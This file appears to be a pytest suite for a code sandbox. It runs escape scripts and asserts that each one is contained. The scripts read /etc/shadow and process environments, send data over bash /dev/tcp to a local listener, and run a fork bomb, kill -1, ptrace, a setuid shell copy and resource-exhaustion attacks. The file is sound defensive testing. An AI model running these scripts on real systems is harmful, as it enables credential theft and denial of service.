"""Attacks by code inside. Each script prints LEAK when it gets what it wants and DONE at its end."""
# ruff: noqa: E501 - scripts as text

import asyncio
import json
import os
import socket
import subprocess
import threading

import pytest
from attrs import evolve

from .conftest import CANARY, SMALL, descendants, server_pid

READS = {
    "files of the host": """
import glob, os
home = os.path.expanduser('~root')
paths = ['/etc/shadow', '/etc/hostname', '/root', '/home', '/var', '/run', '/sys', '/boot', '/proc/1/environ',
         '/proc/self/environ', '/proc/self/root/etc/shadow', '/../../etc/shadow', '/tmp/canary-file', HOST_HOME]
for path in paths:
    try:
        found = os.listdir(path) if os.path.isdir(path) else open(path).read()
        if found and path not in ('/root',): print('LEAK', path, str(found)[:80])
        if path == '/root' and set(found) - set(['.pyenv', '.local', '.venv']): print('LEAK', found)
    except OSError: pass
print('DONE')""",
    "the environment": "import os\nprint('LEAK' if 'SECRET' in str(os.environ) else 'DONE')",
    "other processes": """
import os
for pid in ['self', 'thread-self', *range(1, 5000)]:
    if os.path.exists(f'/proc/{pid}/maps'): print('LEAK', pid)
print('DONE', os.listdir('/proc'))""",
    "inherited descriptors": """
import os
open_fds = []
for fd in range(4, 1024):
    try: os.fstat(fd); open_fds.append(fd)
    except OSError: pass
print('LEAK' if open_fds else 'DONE', open_fds)""",
    "the whole tree": """
import os, sys
n = 0
for folder, folders, names in os.walk('/'):
    n += len(names)
    if folder in ('/usr', sys.prefix, sys.base_prefix): folders.clear()
    if 'canary-file' in names or 'hidden_secret' in names: print('LEAK', folder)
print('DONE', n)""",
    "links out": """
import os
os.symlink('/etc/shadow', 'a.txt'); os.symlink('/', 'dir')
try: os.link('/usr/bin/env', 'b')
except OSError: pass
else: print('LEAK')
print('DONE')""",
}

NETWORK = {
    "tcp": "import socket\ntry:\n s = socket.create_connection(('127.0.0.1', PORT), 1); print('LEAK')\nexcept OSError: print('DONE')",
    "udp": """
import socket
try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'steal', ('127.0.0.1', PORT)); print('LEAK')
except OSError: print('DONE')""",
    "shell": """
import subprocess
r = subprocess.run(['/bin/bash', '-c', '(echo steal > /dev/tcp/127.0.0.1/PORT) && echo LEAK'], capture_output=True, text=True)
print(r.stdout, 'DONE')""",
    "odd families": """
import socket
for family in (16, 17, 38, 40, 10, 44, 31):
    for kind in (1, 2, 3, 5):
        try: socket.socket(family, kind, 0); print('LEAK', family, kind)
        except OSError: pass
print('DONE')""",
    "abstract unix socket": """
import socket
try: s = socket.socket(socket.AF_UNIX); s.connect('\\0ABSTRACT_NAME'); print('LEAK', s.recv(9))
except OSError: print('DONE')""",
    "path unix socket": """
import socket
try: s = socket.socket(socket.AF_UNIX); s.connect('SOCKET_PATH'); print('LEAK', s.recv(9))
except OSError: print('DONE')""",
    "io_uring": "import ctypes\nl = ctypes.CDLL(None)\nb = ctypes.create_string_buffer(256)\nprint('LEAK' if l.syscall(425, 8, b) >= 0 else 'DONE')",
}

PROCESSES = {
    "kill everything": "import os\nprint('DONE', flush=True)\ntry: os.kill(-1, 9)\nexcept OSError: pass",
    "signal the parent and others": """
import os
for pid in (os.getppid(), HOST_PID, 2, 3, 4):
    try:
        if pid > 1: os.kill(pid, 0); print('LEAK', pid)
    except OSError: pass
print('DONE', os.getppid())""",
    "trace the parent and siblings": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in [os.getppid(), *range(2, 60)]:
    if pid > 0 and libc.ptrace(16, pid, 0, 0) == 0: print('LEAK', pid)
print('DONE')""",
    "new namespaces and mounts": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
calls = {'user': lambda: libc.unshare(0x10000000), 'mount ns': lambda: libc.unshare(0x20000), 'umount': lambda: libc.umount2(b'/proc', 2),
         'mount': lambda: libc.mount(b'tmpfs', b'/tmp', b'tmpfs', 0, None), 'chroot': lambda: libc.chroot(b'.'),
         'setuid': lambda: libc.setresuid(0, 0, 0)}
for name, call in calls.items():
    if call() >= 0: print('LEAK', name)
print('DONE')""",
    "capabilities by exec": """
import os, shutil, subprocess
shutil.copy('/bin/sh', 'sh'); os.chmod('sh', 0o4755)
r = subprocess.run(['./sh', '-c', 'id -u; su -c id </dev/null'], capture_output=True, text=True).stdout
print('LEAK' if r.split()[:1] == ['0'] or 'uid=0' in r else 'DONE', r)""",
}

WRITES = {
    "outside of the workspace": """
import json, os, sys
for path in ('/usr/local/lib/zz', '/etc/zz', '/zz', '/dev/zz', '/proc/zz', '/var/tmp/zz', sys.prefix + '/zz', sys.base_prefix + '/zz',
             os.path.dirname(json.__file__) + '/zz.py', PACKAGE + '/zz.py', HOST_HOME + '/zz'):
    try: open(path, 'a').close(); print('LEAK', path)
    except OSError: pass
print('DONE')""",
    "devices": """
import os
for name in ('kvm', 'vda', 'mem', 'kmsg', 'fuse', 'net/tun', 'nvidia0', 'sda', 'tty'):
    try: os.open('/dev/' + name, os.O_RDWR); print('LEAK', name)
    except OSError: pass
try: os.mknod('zero', 0o600 | 0o020000, os.makedev(1, 5)); print('LEAK mknod')
except OSError: pass
print('DONE')""",
    "the disk, by size": """
n = 0
try:
    for i in range(40): open(f'f{i}', 'wb').write(b'x' * (1 << 20)); n += 1
    print('LEAK', n)
except OSError: print('DONE', n)""",
    "the disk, by /tmp and /dev/shm": """
for folder in ('/tmp', '/dev/shm'):
    n = 0
    try:
        for i in range(40): open(f'{folder}/f{i}', 'wb').write(b'x' * (1 << 20)); n += 1
        print('LEAK', folder, n)
    except OSError: pass
print('DONE')""",
    "the disk, by file count": """
n = 0
try:
    for i in range(20000): open(f'f{i}', 'w').close(); n += 1
    print('LEAK', n)
except OSError: print('DONE', n)""",
    "one file past its limit": """
try: open('big', 'wb').truncate(1 << 40); print('LEAK')
except OSError: print('DONE')""",
}

RESOURCES = {
    "fork bomb": """
import os, time
n = 0
for i in range(400):
    try: pid = os.fork()
    except OSError: break
    if pid == 0: time.sleep(30); os._exit(0)
    n += 1
print('LEAK' if n == 400 else 'DONE', n)""",
    "threads": """
import threading, time, os
n = 0
try:
    for i in range(400): threading.Thread(target=time.sleep, args=(30,), daemon=True).start(); n += 1
except (RuntimeError, MemoryError): pass
print('LEAK' if n == 400 else 'DONE', n)""",
    "descriptors": """
import os
n = 0
try:
    while n < 20000: os.open('/dev/null', 0); n += 1
    print('LEAK', n)
except OSError: print('DONE', n)""",
    "memory of one process": """
blocks = []
try:
    for i in range(40): blocks.append(bytearray(32 << 20))
    print('LEAK')
except MemoryError: print('DONE')""",
    "memory outside of the process": """
import ctypes
libc = ctypes.CDLL(None)
made = [libc.memfd_create(b'x', 0), libc.shmget(0, 1 << 20, 0o1600), libc.msgget(0, 0o1600)]
print('LEAK' if max(made) >= 0 else 'DONE', made)""",
    "priority": """
import os
for call in (lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)), lambda: os.nice(-10)):
    try: call(); print('LEAK')
    except OSError: pass
print('DONE')""",
}

ALL = {f"{group}: {name}": script for group, scripts in (("read", READS), ("network", NETWORK), ("processes", PROCESSES),
       ("write", WRITES), ("resources", RESOURCES)) for name, script in scripts.items()}  # fmt: skip


@pytest.fixture(scope="module")
def host(tmp_path_factory):
    """What an attacker wants: a listener, sockets, a file, a bystander."""
    home = tmp_path_factory.mktemp("home")
    (home / "hidden_secret").write_text(CANARY)
    contacts = []
    tcp, udp = socket.create_server(("127.0.0.1", 0)), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", tcp.getsockname()[1]))
    paths = [socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX)]
    paths[0].bind(str(home / "daemon.sock"))
    paths[1].bind(f"\0canary-socket-{os.getpid()}")  # one name space for all on this machine
    for listener in paths:
        listener.listen()

    def accept(listener):
        while True:
            try:
                contacts.append(listener.accept() if listener is not udp else listener.recv(9))
            except OSError:
                return

    for listener in (tcp, udp, *paths):
        threading.Thread(target=accept, args=(listener,), daemon=True).start()
    bystander = subprocess.Popen(["/bin/sleep", "600"])
    words = {
        "PORT": str(tcp.getsockname()[1]),
        "HOST_PID": str(os.getpid()),
        "HOST_HOME": repr(str(home)),
        "SOCKET_PATH": str(home / "daemon.sock"),
        "ABSTRACT_NAME": f"canary-socket-{os.getpid()}",
        "PACKAGE": repr(os.path.dirname(os.path.dirname(os.path.abspath(socket.__file__)))),
    }
    yield words, contacts, bystander
    bystander.kill()
    bystander.wait()
    for listener in (tcp, udp, *paths):
        listener.close()


@pytest.mark.parametrize("name", ALL)
async def test_an_attack_gets_nothing(name, run, host):
    words, contacts, bystander = host
    script = ALL[name]
    for word, value in words.items():
        script = script.replace(word, value)
    result = await run(script)
    said = result.output.decode(errors="replace")
    assert "LEAK" not in said
    assert CANARY not in said
    # what eats memory meets its own limit or, on a busy machine, is ended by the poll before it does: both are safe
    ended_for_memory = name == "resources: memory of one process" and result.outcome == "memory_limit"
    assert "DONE" in said or ended_for_memory, (result.outcome, result.detail, said)
    assert not contacts
    assert bystander.poll() is None


async def test_nothing_is_left_for_the_next_run(run):
    leave = "for p in ('/tmp/left', '/dev/shm/left', 'left'): open(p, 'w').write('x')\nprint('DONE')"
    look = "import os\nprint([p for p in ('/tmp/left', '/dev/shm/left', 'left') if os.path.exists(p)])"
    assert b"DONE" in (await run(leave)).output
    assert (await run(look)).output.strip() == b"[]"


async def test_runs_at_the_same_time_do_not_see_each_other(run):
    holder = """
import socket, time
secret = 'CANARY-7f3a91'; open('secret', 'w').write(secret); open('/tmp/secret', 'w').write(secret); open('/dev/shm/s', 'w').write(secret)
s = socket.socket(socket.AF_UNIX); s.bind('\\0meet'); s.listen(); time.sleep(1.5); print('HELD')"""
    seeker = """
import glob, os, socket, time
time.sleep(0.4)
for path in ('secret', '/tmp/secret', '/dev/shm/s'):
    if os.path.exists(path): print('LEAK', path)
for pid in range(2, 3000):
    try: os.kill(pid, 0); print('LEAK', pid)
    except OSError: pass
try: socket.socket(socket.AF_UNIX).connect('\\0meet'); print('LEAK socket')
except OSError: pass
print('DONE')"""
    held, sought = await asyncio.gather(run(holder), run(seeker))
    assert b"HELD" in held.output
    assert b"DONE" in sought.output
    assert b"LEAK" not in sought.output


async def test_memory_of_many_processes_together_is_capped(run):
    script = """
import os, time
for i in range(8):
    if os.fork() == 0:
        block = bytearray(b'z') * (100 << 20); time.sleep(5); os._exit(0)
time.sleep(5); print('LEAK')"""
    result = await run(script)
    assert result.outcome == "memory_limit", (result, result.output)


@pytest.mark.parametrize(
    ("script", "change", "outcome"),
    [
        ("while True: pass", {"cpu_seconds": 1}, "cpu_limit"),
        ("while True: pass", {"wall_seconds": 0.5}, "timeout"),
        ("import time; time.sleep(60)", {"wall_seconds": 0.3}, "timeout"),
        (
            "import os, signal, time\nos.kill(os.getpid(), signal.SIGSTOP)\ntime.sleep(60)",
            {"wall_seconds": 0.5},
            "timeout",
        ),
        (
            "import signal, time\nfor s in range(1, 65):\n  try: signal.signal(s, signal.SIG_IGN)\n"
            "  except (OSError, ValueError): pass\nwhile True: time.sleep(1)",
            {"wall_seconds": 0.5},
            "timeout",
        ),
        ("while True: print('A' * 1000)", {"output_bytes": 4096}, "output_limit"),
        ("import ctypes; ctypes.string_at(0)", {}, "signalled"),
    ],
    ids=["cpu", "busy", "sleep", "stop", "ignore signals", "output", "segfault"],
)
async def test_a_limit_ends_the_run(script, change, outcome, run):
    result = await run(script, evolve(SMALL, **change))
    assert result.outcome == outcome, (result, result.output[-300:])
    assert len(result.output) < 80_000


async def test_os_exit_is_an_exit_without_frames(run):
    result = await run("import os; open('x', 'w').write('1'); os._exit(0)")
    assert (result.outcome, result.code, result.frames) == ("exited", 0, ())


@pytest.mark.parametrize(
    "daemon",
    [
        "import os\nif os.fork() == 0:\n  os.setsid()\n  if os.fork() == 0:\n    os.closerange(0, 9)\n    os.execv('/bin/sleep', ['sleep', '98761'])\n  os._exit(0)\nprint('DONE')",
        "import os\nif os.fork() == 0:\n  os.setsid(); os.execv('/bin/sleep', ['sleep', '98762'])\nprint('DONE')",
    ],
    ids=["detached", "holds stdout"],
)
async def test_a_daemon_dies_with_its_run(daemon, run, sandbox):
    before = len(descendants(server_pid(sandbox)))
    result = await run(daemon)
    assert b"DONE" in result.output
    assert result.wall_seconds < 3
    assert len(descendants(server_pid(sandbox))) == before


HUGE = "import os, struct\nfor _ in range(64): os.write(3, struct.pack('!HI', 1, 1 << 20) + b'x' + bytes(1 << 20))"
MANY = "import os, struct\nwhile True: os.write(3, (struct.pack('!HI', 1, 0) + b'x') * 500)"
LONG = "import os, struct\nos.write(3, struct.pack('!HI', 1, 4_000_000_000) + b'x')\nimport time; time.sleep(9)"
BROKEN = "import os\nos.write(3, b'garbage' * 100)\nimport time; time.sleep(9)"


@pytest.mark.parametrize(
    ("script", "outcome"),
    [(HUGE, "result_limit"), (MANY, "result_limit"), (LONG, "result_limit"), (BROKEN, "signalled")],
    ids=["huge", "many tiny", "a lying length", "garbage"],
)
async def test_frames_are_bounded_and_garbage_ends_the_run(script, outcome, run):
    result = await run(script, evolve(SMALL, result_bytes=1 << 20))
    assert result.outcome == outcome
    assert result.wall_seconds < 3


async def test_links_devices_and_deep_folders_are_not_sent_back(run):
    script = """
import os
os.symlink('/etc/passwd', 'link.txt'); os.mkfifo('rows.jsonl')
for _ in range(60): os.mkdir('d'); os.chdir('d')
"""
    result = await run(script)
    assert {json.loads(data.split(b"\n")[0])["path"] for kind, data in result.frames} == set()
